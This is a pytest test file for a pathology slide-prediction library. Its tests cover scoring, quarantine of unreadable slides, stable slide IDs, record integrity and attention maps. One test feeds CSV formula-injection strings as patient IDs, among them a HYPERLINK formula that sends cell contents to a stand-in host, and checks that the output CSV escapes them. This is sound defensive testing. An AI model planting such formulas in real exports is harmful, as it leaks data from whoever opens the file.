"""New slides go the run's own way: its patches, its encoder, its threshold; bad ones are quarantined, never lost."""

import csv
import hashlib
import io
import json
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
import torch
from PIL import Image

from milcore.api import score_slides
from milcore.config import EncodeConfig, IngestConfig, PredictConfig, SplitConfig, TrainConfig
from milcore.encoders.extraction.encode import encode
from milcore.errors import InputError, StoreError
from milcore.evaluation.attention.write import SUFFIXES
from milcore.evaluation.evaluate import evaluate
from milcore.evaluation.predict import cohort_ingestion, predict, predict_manifest
from milcore.evaluation.prediction_folder import slides_of_files
from milcore.ingestion.cohort import ingest, plan_cohort
from milcore.ingestion.imports.import_cohort import import_source
from milcore.runtime import storage
from milcore.runtime.digest import digest, with_own_digest
from milcore.slides.write_pyramid import write_pyramid
from milcore.store.store import PatchStore
from milcore.training.context import LocalContext
from milcore.training.run import prepare_run, train_run
from milcore.training.run_folder import Run
from tests.cohorts import as_folds, rewrite_json
from tests.dicom import write_level, write_series
from tests.ingestion.imports.made import BAGS, write_bags
from tests.leica import write_scn

TRAIN = TrainConfig(hidden=8, attention_hidden=4, epochs=2, batch_size=4)
SLIDES = 8


def write_slide(path: Path, seed: int) -> None:
    pixels = np.full((192, 256, 3), 244, np.uint8)
    stain = np.array((200, 110 + 10 * (seed % 2), 170))
    pixels[:, :192] = np.clip(np.random.default_rng(seed).normal(stain, 25, (192, 192, 3)), 0, 255)
    write_pyramid(path, pixels, 0.5, 2, quality=95)


@pytest.fixture(scope="module")
def cohort(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with slides, the store made of them, and a run evaluated on it."""
    folder = tmp_path_factory.mktemp("predict")
    rows = ["slide_id,uri,label"]
    for k in range(SLIDES):
        write_slide(folder / f"s{k}.tiff", k)
        rows.append(f"s{k},s{k}.tiff,{k % 2}")
    (folder / "manifest.csv").write_text("\n".join(rows) + "\n")
    store = str(folder / "store")
    plan_cohort(str(folder / "manifest.csv"), store)
    assert all(outcome.status == "ok" for outcome in ingest(store, IngestConfig(patch_size=64), 0))
    assert len(list(encode(store, EncodeConfig()))) == SLIDES
    prepare_run(store, str(folder / "run"), TRAIN, SplitConfig())
    train_run(str(folder / "run"), LocalContext(None, torch.device("cpu")))
    evaluate(str(folder / "run"), baselines=False)
    return folder


def read_predictions(out: Path) -> dict[str, Any]:
    """``predictions.json`` with its paths from the folder made absolute."""
    content = json.loads((out / "predictions.json").read_text())
    slides = []
    for row in content["slides"]:
        uri = str((out / row["uri"]).resolve())
        slides.append(row | {"uri": uri, "reason": row["reason"] and row["reason"].replace(row["uri"], uri)})
    quarantined = {row["slide_id"]: row["reason"] for row in slides if row["slide_id"] in content["quarantined"]}
    run = str((out / content["run"]).resolve())
    return dict(content) | {"run": run, "slides": slides, "quarantined": quarantined}


def test_a_slide_of_the_cohort_gets_the_probability_that_evaluation_gave_it(cohort: Path, tmp_path: Path) -> None:
    summary = predict(str(cohort / "run"), [str(cohort / "s3.tiff")], str(tmp_path))
    known = {row["slide_id"]: row for row in storage.read_table(str(cohort / "run/predictions.parquet")).to_pylist()}
    assert summary["ok"] == ["s3"]
    row = summary["slides"][0]
    assert row["probability"] == pytest.approx(known["s3"]["probability"], abs=1e-6)
    assert row["called"] == str(int(row["probability"] >= summary["threshold"]))
    known_temperature = storage.read_json(str(cohort / "run/metrics.json"))["temperature"]
    odds = row["probability"] / (1 - row["probability"])
    assert row["calibrated"] == pytest.approx(odds ** (1 / known_temperature) / (1 + odds ** (1 / known_temperature)))
    assert row["spread"] is None
    assert row["patches"] == len(PatchStore(str(cohort / "store")).slide("s3"))
    assert storage.names(str(tmp_path / "attention")) == sorted(f"s3.{suffix}" for suffix in SUFFIXES.values())
    table = storage.read_table(str(tmp_path / "attention/s3.parquet"))
    score = table["score"].to_numpy()
    np.testing.assert_allclose(table["weight"].to_numpy(), np.exp(score) / np.exp(score).sum(), rtol=1e-5)


def test_every_file_is_accounted_for_in_csv_and_json(cohort: Path, tmp_path: Path) -> None:
    (tmp_path / "empty.tiff").write_bytes(b"")
    slides = [str(cohort / "s1.tiff"), str(tmp_path / "empty.tiff"), str(tmp_path / "absent.tiff")]
    summary = predict(str(cohort / "run"), slides, str(tmp_path / "out"))
    assert summary["ok"] == ["s1"]
    assert set(summary["quarantined"]) == {"empty", "absent"}
    assert "there is no such file" in summary["quarantined"]["absent"]
    assert read_predictions(tmp_path / "out") == summary
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/predictions.csv").read_text())))
    assert [(row["slide_id"], row["status"]) for row in rows] == [
        ("s1", "ok"),
        ("empty", "quarantined"),
        ("absent", "quarantined"),
    ]
    assert float(rows[0]["probability"]) == summary["slides"][0]["probability"]
    assert summary["notice"].startswith("Research use only")


def test_a_dicom_series_is_a_slide_named_like_its_folder(cohort: Path, tmp_path: Path) -> None:
    """A folder's name is often a UID, whose last part is no suffix."""
    pixels = np.full((192, 256, 3), 244, np.uint8)
    pixels[:, :192] = (200, 110, 170)
    folder = tmp_path / "1.2.840.77"
    series = write_series(folder, pixels, 0.5)
    first = predict(str(cohort / "run"), [f"{folder}/"], str(tmp_path / "out"))
    assert first["ok"] == ["1.2.840.77"]
    assert first["slides"][0]["patches"] == 9
    of_file = predict(str(cohort / "run"), [str(folder / "level1.dcm")], str(tmp_path / "named"))
    assert (of_file["ok"], of_file["slides"][0]["probability"]) == (["level1"], first["slides"][0]["probability"])
    record = tmp_path / "out/slides/1.2.840.77.json"
    seen = record.read_bytes()
    write_level(folder / "level1.dcm", 255 - pixels, 0.5, 1, series)
    predict(str(cohort / "run"), [str(folder)], str(tmp_path / "out"))
    assert record.read_bytes() != seen


def test_the_step_of_a_pipeline_takes_the_origin_of_coordinates(cohort: Path, tmp_path: Path) -> None:
    run, slides = str(cohort / "run"), [str(cohort / "s1.tiff")]
    for origin in ("bounds", "slide"):
        out = score_slides(
            run, slides, str(tmp_path / origin), default_mpp=None, annotation_origin=origin, use_gpu=False
        )
        assert storage.read_json(f"{out}/config.json")["annotation_origin"] == origin
    with pytest.raises(InputError, match="annotation_origin: expected 'slide' or 'bounds', got 'corner'"):
        score_slides(run, slides, str(tmp_path / "out"), default_mpp=None, annotation_origin="corner", use_gpu=False)


def test_folders_that_are_moved_together_go_on(cohort: Path, tmp_path: Path) -> None:
    """Run, store, slides and predictions name each other by the way between them."""
    moved = tmp_path / "elsewhere/moved"
    for name in ("run", "store"):
        shutil.copytree(cohort / name, tmp_path / "first" / name)
    shutil.copy(cohort / "s1.tiff", tmp_path / "first/s1.tiff")
    before = predict(str(tmp_path / "first/run"), [str(tmp_path / "first/s1.tiff")], str(tmp_path / "first/out"))
    moved.parent.mkdir()
    (tmp_path / "first").rename(moved)
    record = (moved / "out/slides/s1.json").stat().st_mtime_ns
    after = predict(str(moved / "run"), [str(moved / "s1.tiff")], str(moved / "out"))
    assert after["slides"] == [before["slides"][0] | {"uri": str(moved / "s1.tiff")}]
    assert (moved / "out/slides/s1.json").stat().st_mtime_ns == record
    assert Run(str(moved / "run")).spec().store_uri == str(moved / "store")
    assert evaluate(str(moved / "run"), baselines=False)["report"] == str(moved / "run/report.html")


def test_a_run_that_is_moved_without_its_store_is_told_it_by_training_again(cohort: Path, tmp_path: Path) -> None:
    """Digests tell that it is the same store; nothing is trained anew."""
    run = tmp_path / "run"
    shutil.copytree(cohort / "run", run)
    lost = rf"expected its store at {tmp_path}/store, got none; where one of them was moved, run `milcore train STORE"
    with pytest.raises(StoreError, match=lost):
        evaluate(str(run), baselines=False)
    model = (run / "model.safetensors").read_bytes()
    prepare_run(str(cohort / "store"), str(run), TRAIN, SplitConfig())
    assert Run(str(run)).spec().store_uri == str(cohort / "store")
    assert storage.read_json(str(run / "config.json"))["store_uri"].startswith("../")
    assert (run / "model.safetensors").read_bytes() == model
    assert evaluate(str(run), baselines=False)["auroc"] is not None
    with pytest.raises(InputError, match="expected the settings that it was made with, got others"):
        prepare_run(str(cohort / "store"), str(run), TRAIN.model_copy(update={"hidden": 4}), SplitConfig())


def test_records_of_an_earlier_version_with_the_run_s_full_path_are_kept(cohort: Path, tmp_path: Path) -> None:
    run, out, slide = cohort / "run", tmp_path / "out", str(cohort / "s1.tiff")
    before = predict(str(run), [slide], str(out))
    rewrite_json(str(out / "config.json"), {"run": str(run)})
    config, record = storage.read_json(str(out / "config.json")), storage.read_json(str(out / "slides/s1.json"))
    for name in ("schema_version", "milcore_version", "annotation_origin"):
        del config[name]
    del record["sha256"]
    record |= {"uri": slide, "seen": [slide, *record["seen"][1:]], "settings": digest(config)}
    storage.write_json(str(out / "slides/s1.json"), with_own_digest(record))
    bytes_before = (out / "slides/s1.json").read_bytes()
    assert predict(str(run), [slide], str(out)) == before
    assert (out / "slides/s1.json").read_bytes() == bytes_before


def test_no_cell_of_the_csv_is_a_formula(cohort: Path, tmp_path: Path) -> None:
    """Patients come from the manifest; a class's name from the run's config."""
    patients = ["=1+1", "+44 x", "@SUM(A1)", "-2+3", "-1", "O'Neil", '=HYPERLINK("http://a/?b="&A2,"x")']
    lines = [f'q{k},absent{k}.tiff,"{name.replace(chr(34), chr(34) * 2)}"' for k, name in enumerate(patients)]
    (tmp_path / "new.csv").write_text("\n".join(["slide_id,uri,patient_id", f"s1,{cohort}/s1.tiff,p", *lines]))
    run = tmp_path / "run"
    shutil.copytree(cohort / "run", run)
    rewrite_json(str(run / "config.json"), {"classes": ["-", "@b"]})
    summary = predict_manifest(str(run), str(tmp_path / "new.csv"), str(tmp_path / "out"))
    assert [row["patient_id"] for row in summary["slides"]] == ["p", *patients]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/predictions.csv").read_text())))
    shown = ["'=1+1", "'+44 x", "'@SUM(A1)", "'-2+3", "-1", "O'Neil", "'" + patients[-1]]
    assert [row["patient_id"] for row in rows] == ["p", *shown]
    assert rows[0]["called"] in ("'-", "'@b")
    assert float(rows[0]["probability"]) == summary["slides"][0]["probability"]


def test_a_slide_without_mpp_needs_one(cohort: Path, tmp_path: Path) -> None:
    path = tmp_path / "plain.png"
    pixels = np.random.default_rng(0).normal((200, 110, 170), 25, (192, 192, 3))
    Image.fromarray(np.clip(pixels, 0, 255).astype(np.uint8)).save(path)
    without = predict(str(cohort / "run"), [str(path)], str(tmp_path / "a"))
    assert without["quarantined"]["plain"].startswith("no mpp")
    assert predict(str(cohort / "run"), [str(path)], str(tmp_path / "b"), PredictConfig(default_mpp=0.5))["ok"] == [
        "plain"
    ]


def test_no_slide_is_an_error(cohort: Path, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="expected at least one slide"):
        predict(str(cohort / "run"), [], str(tmp_path))


def test_a_cohort_cut_in_two_ways_cannot_be_followed(cohort: Path, tmp_path: Path) -> None:
    assert cohort_ingestion("run", Run(str(cohort / "run")).spec()) == IngestConfig(patch_size=64)
    mixed, run = str(tmp_path / "store"), str(tmp_path / "run")
    plan_cohort(str(cohort / "manifest.csv"), mixed)
    for k in range(SLIDES):
        list(ingest(mixed, IngestConfig(patch_size=(64, 32)[k % 2], max_unreadable=k), 0, (k, SLIDES)))
    prepare_run(mixed, run, TRAIN.model_copy(update={"features": None, "encoder": "conv"}), SplitConfig())
    spec = Run(run).spec()
    assert {config.patch_size for config in spec.origin.ingestion} == {32, 64}
    with pytest.raises(StoreError, match="got different patch_size; allowed"):
        cohort_ingestion(run, spec)


def test_a_run_on_imports_records_them_and_predicts_no_slide(cohort: Path, tmp_path: Path) -> None:
    run, store = str(tmp_path / "run"), str(tmp_path / "store")
    import_source(write_bags(tmp_path / "bags.npz"), store, BAGS)
    splits = {"slide_id": PatchStore(store).slide_ids(), "split": ["train", "train", "val", "test"]}
    table = PatchStore(store).manifest().to_table().select(["slide_id", "patient_id", "label"])
    storage.write_table(str(tmp_path / "s.parquet"), table.append_column("split", pa.array(splits["split"])))
    config = TRAIN.model_copy(update={"features": "imported"})
    prepare_run(store, run, config, SplitConfig(splits=str(tmp_path / "s.parquet")))
    train_run(run, LocalContext(None, torch.device("cpu")))
    assert Run(run).spec().origin.imports == ("bags-npz",)
    with pytest.raises(StoreError, match=r"got imported ones \(bags-npz\), whose ingestion cannot be repeated"):
        predict(run, [str(cohort / "s0.tiff")], str(tmp_path / "out"))


def test_a_run_predicts_by_its_own_settings_whatever_the_store_holds_now(cohort: Path, tmp_path: Path) -> None:
    """Ingested again at half the resolution, then removed."""
    shutil.copytree(cohort / "store", tmp_path / "store")
    for slide in cohort.glob("*.tiff"):
        shutil.copy(slide, tmp_path)
    run, store, slides = str(tmp_path / "run"), str(tmp_path / "store"), [str(cohort / "s1.tiff")]
    prepare_run(store, run, TRAIN, SplitConfig())
    train_run(run, LocalContext(None, torch.device("cpu")))
    before = predict(run, slides, str(tmp_path / "before"))
    list(ingest(store, IngestConfig(patch_size=32, mpp=1.0), 0))
    list(encode(store, EncodeConfig()))
    assert predict(run, slides, str(tmp_path / "after")) == before
    shutil.rmtree(store)
    assert predict(run, slides, str(tmp_path / "without")) == before


def test_features_of_another_encoder_cannot_be_repeated(cohort: Path, tmp_path: Path) -> None:
    """The same name, but other weights than those installed here."""
    shutil.copytree(cohort / "store", tmp_path / "store")
    store, name = PatchStore(str(tmp_path / "store")), TRAIN.features
    for slide_id in store.slide_ids():
        slide = store.slide(slide_id)
        slide.write_features(
            name, slide.features(name).read(0, len(slide)), slide.feature_attrs(name) | {"weights_digest": "0"}
        )
    run = str(tmp_path / "run")
    prepare_run(store.uri, run, TRAIN.model_copy(update={"epochs": 1}), SplitConfig())
    train_run(run, LocalContext(None, torch.device("cpu")))
    with pytest.raises(StoreError, match="encoder efficientnet_lite0: expected the weights_digest that made"):
        predict(run, [str(cohort / "s0.tiff")], str(tmp_path / "out"))


def digest_of(uri: str) -> str:
    return hashlib.sha256(uri.encode()).hexdigest()[:8]


@pytest.mark.parametrize(
    ("uris", "expected"),
    [
        (["/a/x.svs", "/b/y.svs"], ["x", "y"]),
        (["/b/x.svs", "/a/x.svs"], [f"x-{digest_of('/b/x.svs')}", f"x-{digest_of('/a/x.svs')}"]),
        (["/a/x.svs", "/a/x.tiff"], [f"x-{digest_of('/a/x.svs')}", f"x-{digest_of('/a/x.tiff')}"]),
        (["/a/x.svs", "/a/x.svs"], ["x"]),
        (["s3://bucket/case 7 (left).svs"], ["case_7__left_"]),
        (["/a/.svs", "/a/_.svs"], ["svs", "slide"]),
        (["/b/known.svs", "/a/new.svs", "/a/known.svs"],
         ["new", f"new-{digest_of('/a/new.svs')}", f"known-{digest_of('/a/known.svs')}"]),
    ],
)  # fmt: skip
def test_slide_ids_are_safe_and_differ(uris: list[str], expected: list[str]) -> None:
    """The folder holds a file recorded as known, and one recorded as new that was called known."""
    records = {
        "known": {"uri": "/z/known.svs", "seen": ["/z/known.svs", "known", None]},
        "new": {"uri": "/b/known.svs", "seen": ["/b/known.svs", "new", None]},
    }
    assert [slide.slide_id for slide in slides_of_files(uris, records)] == expected
    assert [slide.slide_id for slide in slides_of_files(uris[::-1], records)] == expected[::-1]


def test_a_folder_keeps_every_slide_predicted_into_it(cohort: Path, tmp_path: Path) -> None:
    """Two files of one name, in two calls and again together in the other order: no id and no result moves."""
    run, out, uris = str(cohort / "run"), tmp_path / "out", []
    for k in range(2):
        (tmp_path / str(k)).mkdir()
        shutil.copy(cohort / f"s{k}.tiff", tmp_path / f"{k}/a.tiff")
        uris.append(str(tmp_path / f"{k}/a.tiff"))
    ids = ["a", f"a-{digest_of(uris[1])}"]
    first = predict(run, uris[:1], str(out))
    attention = (out / "attention/a.parquet").read_bytes()
    second = predict(run, uris[1:], str(out))
    assert [first["ok"], second["ok"]] == [ids[:1], ids[1:]]
    assert (out / "attention/a.parquet").read_bytes() == attention
    assert {path.name.split(".")[0] for path in (out / "attention").iterdir()} == set(ids)
    together = predict(run, uris[::-1], str(out))
    assert together["slides"] == [*second["slides"], *first["slides"]]
    for uri in (uris, [str(cohort / "s2.tiff")]):
        predict(run, uri, str(out))
    rows = list(csv.DictReader(io.StringIO((out / "predictions.csv").read_text())))
    assert [row["slide_id"] for row in rows] == ["s2", *ids]
    assert [str((out / row["uri"]).resolve()) for row in rows] == [str(cohort / "s2.tiff"), *uris]
    assert json.loads((out / "predictions.json").read_text())["ok"] == ["s2", *ids]


def test_an_id_stands_for_one_file_and_a_changed_file_is_scored_again(cohort: Path, tmp_path: Path) -> None:
    run, out = str(cohort / "run"), str(tmp_path / "out")
    for name in ("a", "b"):
        shutil.copy(cohort / "s0.tiff", tmp_path / f"{name}.tiff")
    (tmp_path / "one.csv").write_text("slide_id,uri\nx,a.tiff\n")
    (tmp_path / "two.csv").write_text("slide_id,uri\nx,b.tiff\n")
    (before,) = predict_manifest(run, str(tmp_path / "one.csv"), out)["slides"]
    with pytest.raises(
        InputError, match=rf"slide_id 'x': expected the file .*{tmp_path}/a.tiff, got {tmp_path}/b.tiff"
    ):
        predict_manifest(run, str(tmp_path / "two.csv"), out)
    shutil.copy(cohort / "s1.tiff", tmp_path / "a.tiff")
    (after,) = predict_manifest(run, str(tmp_path / "one.csv"), out)["slides"]
    assert after["probability"] != before["probability"]
    (tmp_path / "a.tiff").write_bytes(b"")
    assert predict(run, [str(tmp_path / "a.tiff")], out)["quarantined"].keys() == {"x"}
    assert storage.files(f"{out}/attention") == set()


def test_a_record_of_other_settings_is_not_believed(cohort: Path, tmp_path: Path) -> None:
    """One scored at another scale, put beside the others."""
    run, slide = str(cohort / "run"), str(cohort / "s0.tiff")
    (row,) = predict(run, [slide], str(tmp_path / "out"))["slides"]
    predict(run, [slide, str(cohort / "s1.tiff")], str(tmp_path / "other"), PredictConfig(default_mpp=0.25))
    for name in ("s0", "s1"):
        shutil.copy(tmp_path / f"other/slides/{name}.json", tmp_path / f"out/slides/{name}.json")
    record = storage.read_json(str(tmp_path / "out/slides/s0.json"))
    del record["sha256"]
    storage.write_json(str(tmp_path / "out/slides/s0.json"), with_own_digest(record | {"members": [[0.5, 0.5]]}))
    assert predict(run, [slide], str(tmp_path / "out"))["slides"] == [row]
    assert read_predictions(tmp_path / "out")["slides"] == [row]


def test_a_manifest_is_scored_and_taken_up_again_where_it_was(cohort: Path, tmp_path: Path) -> None:
    """The second time only the slide that changed and the one that was absent are looked at."""
    for name in ("a", "b"):
        (tmp_path / f"{name}.tiff").write_bytes((cohort / "s0.tiff").read_bytes())
    (tmp_path / "new.csv").write_text("slide_id,uri\na,a.tiff\nb,b.tiff\nc,c.tiff\n")
    run, out = str(cohort / "run"), str(tmp_path / "out")
    first = predict_manifest(run, str(tmp_path / "new.csv"), out)
    assert (first["ok"], list(first["quarantined"])) == (["a", "b"], ["c"])
    before = (tmp_path / "out/slides/a.json").stat().st_mtime_ns
    for name, source in (("b", "s1"), ("c", "s2")):
        (tmp_path / f"{name}.tiff").write_bytes((cohort / f"{source}.tiff").read_bytes())
    second = predict_manifest(run, str(tmp_path / "new.csv"), out)
    assert second["ok"] == ["a", "b", "c"]
    assert (tmp_path / "out/slides/a.json").stat().st_mtime_ns == before
    known = {row["slide_id"]: row for row in storage.read_table(f"{run}/predictions.parquet").to_pylist()}
    probability = [row["probability"] for row in second["slides"]]
    assert probability == pytest.approx([known[name]["probability"] for name in ("s0", "s1", "s2")], abs=1e-6)
    with pytest.raises(InputError, match=r"default_mpp was None, now 0\.25"):
        predict_manifest(run, str(tmp_path / "new.csv"), out, PredictConfig(default_mpp=0.25))


def test_folds_predict_their_mean_and_report_its_spread(cohort: Path, tmp_path: Path) -> None:
    """Two folds: the run's model and one of another seed; the ensemble says their mean."""
    runs = []
    for seed in (0, 1):
        run = str(tmp_path / f"run{seed}")
        prepare_run(str(cohort / "store"), run, TRAIN.model_copy(update={"seed": seed}), SplitConfig())
        train_run(run, LocalContext(None, torch.device("cpu")))
        runs.append(run)
    folded = as_folds(runs, str(tmp_path / "folded"))
    evaluate(folded, baselines=False, attention_formats=("png",))
    slide = str(cohort / "s1.tiff")
    alone = [predict(run, [slide], str(tmp_path / f"out{k}"))["slides"][0]["probability"] for k, run in enumerate(runs)]
    row = predict(folded, [slide], str(tmp_path / "out"))["slides"][0]
    assert row["probability"] == pytest.approx(np.mean(alone), abs=1e-6)
    assert row["spread"] == pytest.approx(np.std(alone), abs=1e-6)


def test_a_later_slide_of_a_patient_joins_its_bag(cohort: Path, tmp_path: Path) -> None:
    run, out = str(tmp_path / "run"), str(tmp_path / "out")
    prepare_run(str(cohort / "store"), run, TRAIN.model_copy(update={"bag": "patient"}), SplitConfig())
    train_run(run, LocalContext(None, torch.device("cpu")))
    for name, ids in (("both", (0, 1)), ("first", (0,)), ("second", (1,))):
        rows = "".join(f"s{k},{cohort}/s{k}.tiff,p\n" for k in ids)
        (tmp_path / f"{name}.csv").write_text(f"slide_id,uri,patient_id\n{rows}")
    both = predict_manifest(run, str(tmp_path / "both.csv"), str(tmp_path / "at_once"))
    predict_manifest(run, str(tmp_path / "first.csv"), out)
    assert predict_manifest(run, str(tmp_path / "second.csv"), out)["ok"] == ["s1"]
    rows = {row["slide_id"]: row["probability"] for row in storage.read_json(f"{out}/predictions.json")["slides"]}
    assert rows == {row["slide_id"]: pytest.approx(row["probability"], abs=1e-6) for row in both["slides"]}


def test_slides_of_a_patient_are_one_bag_where_the_run_s_are(cohort: Path, tmp_path: Path) -> None:
    run = str(tmp_path / "run")
    prepare_run(str(cohort / "store"), run, TRAIN.model_copy(update={"bag": "patient"}), SplitConfig())
    train_run(run, LocalContext(None, torch.device("cpu")))
    rows = "".join(f"s{k},{cohort}/s{k}.tiff,p{k // 2}\n" for k in range(3))
    (tmp_path / "new.csv").write_text(f"slide_id,uri,patient_id\n{rows}")
    slides = predict_manifest(run, str(tmp_path / "new.csv"), str(tmp_path / "out"))["slides"]
    assert slides[0]["probability"] == slides[1]["probability"] != slides[2]["probability"]
    assert slides[0]["called"] is None
    weights = [storage.read_table(str(tmp_path / f"out/attention/s{k}.parquet"))["weight"].to_numpy() for k in (0, 1)]
    assert np.concatenate(weights).sum() == pytest.approx(1.0)


@pytest.mark.filterwarnings("ignore:`torch.jit:DeprecationWarning")
def test_a_program_that_a_run_names_as_its_encoder_waits_for_the_user_s_word(cohort: Path, tmp_path: Path) -> None:
    """Loaded by --allow-program alone, after which its digest is compared."""
    torch.jit.save(torch.jit.script(torch.nn.Flatten()), tmp_path / "program.pt")
    shutil.copytree(cohort / "run", tmp_path / "run")
    origin = storage.read_json(str(tmp_path / "run/config.json"))["origin"]
    origin["encoder"]["encoder"] = f"torchscript:{tmp_path}/program.pt,mpp=any"
    rewrite_json(str(tmp_path / "run/config.json"), {"origin": origin})
    arguments = str(tmp_path / "run"), [str(cohort / "s1.tiff")], str(tmp_path / "out")
    with pytest.raises(InputError, match=r"got 'torchscript:.*', a TorchScript program .* --allow-program"):
        predict(*arguments)
    with pytest.raises(StoreError, match="weights_digest"):
        predict(*arguments, PredictConfig(allow_program=True))


def test_a_lost_record_is_an_error_until_its_slide_is_predicted_again(cohort: Path, tmp_path: Path) -> None:
    """Its row would leave predictions.csv without a word."""
    one, two, three = (str(cohort / f"s{k}.tiff") for k in range(3))
    predict(str(cohort / "run"), [one, two], str(tmp_path))
    before = (tmp_path / "predictions.csv").read_text()
    (tmp_path / "slides/s1.json").unlink()
    with pytest.raises(StoreError, match=rf"{tmp_path}/slides/s1\.json: expected the record of a slide .*'s1' again"):
        predict(str(cohort / "run"), [three], str(tmp_path))
    predict(str(cohort / "run"), [one, two], str(tmp_path))
    assert (tmp_path / "predictions.csv").read_text() == before


def test_records_in_each_other_s_place_are_refused(cohort: Path, tmp_path: Path) -> None:
    predict(str(cohort / "run"), [str(cohort / "s0.tiff"), str(cohort / "s1.tiff")], str(tmp_path))
    one, two = (tmp_path / f"slides/s{k}.json" for k in range(2))
    data = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(data)
    with pytest.raises(StoreError, match=f"{one}: expected a slide's record, got other data"):
        predict(str(cohort / "run"), [str(cohort / "s2.tiff")], str(tmp_path))


def test_attention_begins_at_the_bounds_of_a_slide_that_was_scanned_in_part(cohort: Path, tmp_path: Path) -> None:
    """As QuPath shows it, or at the slide's corner; a folder has one origin."""
    pixels = np.full((192, 256, 3), 244, np.uint8)
    pixels[:, :192] = np.clip(np.random.default_rng(9).normal((200, 110, 170), 25, (192, 192, 3)), 0, 255)
    write_scn(tmp_path / "part.scn", pixels, (128, 64), (640, 512))
    lefts = {}
    for origin in ("bounds", "slide"):
        out = str(tmp_path / origin)
        assert predict(str(cohort / "run"), [str(tmp_path / "part.scn")], out, PredictConfig(annotation_origin=origin))[
            "ok"
        ] == ["part"]
        features = storage.read_json(f"{out}/attention/part.geojson")["features"]
        lefts[origin] = [feature["geometry"]["coordinates"][0][0] for feature in features]
    table = storage.read_table(str(tmp_path / "bounds/attention/part.parquet"))
    assert lefts["slide"] == [[x, y] for x, y in zip(table["x"].to_pylist(), table["y"].to_pylist(), strict=True)]
    assert lefts["bounds"] == [[x - 128, y - 64] for x, y in lefts["slide"]]
    with pytest.raises(InputError, match="annotation_origin was 'bounds', now 'slide'"):
        predict(
            str(cohort / "run"),
            [str(tmp_path / "part.scn")],
            str(tmp_path / "bounds"),
            PredictConfig(annotation_origin="slide"),
        )
